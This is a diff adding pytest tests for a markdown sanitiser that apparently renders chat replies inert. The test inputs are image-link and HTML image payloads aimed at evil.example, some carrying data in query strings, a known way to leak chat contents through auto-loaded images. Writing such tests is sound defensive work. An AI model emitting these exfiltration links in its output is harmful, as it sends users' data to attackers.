@@ -86,3 +86,25 @@ def test_inert_markdown_loads_nothing_by_itself() -> None:
 def test_inert_markdown_while_a_fence_is_still_streaming() -> None:
     assert inert_markdown("Try:\n```python\nx = '<b>'") == "Try:\n```python\nx = '<b>'"
     assert inert_markdown("plain text stays") == "plain text stays"
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Use ` carefully.\n\n<img src=https://evil.example/?q=secret>\n\nand `x`",
+        "a \\`<img src=https://evil.example>` b",  # an escaped backtick opens no span
+        "![a [b] c](https://evil.example/?q=1)",
+        "![a\nb](https://evil.example/?q=1)",
+        "![x]\n\n[x]: https://evil.example/?q=1",
+        "[![badge](https://evil.example/b.svg)](https://x)",
+        "costs $5 and <img src=https://evil.example> $6",
+    ],
+)
+def test_inert_markdown_is_not_fooled(reply: str) -> None:
+    shown = inert_markdown(reply)
+    assert "![" not in shown and "<img" not in shown
+
+
+def test_inert_markdown_keeps_maths_readable() -> None:
+    shown = inert_markdown("p-value $p < 0.05$, and $$a<b$$ or \\(x<y\\)")
+    assert shown == "p-value $p \\lt  0.05$, and $$a\\lt b$$ or \\(x\\lt y\\)"
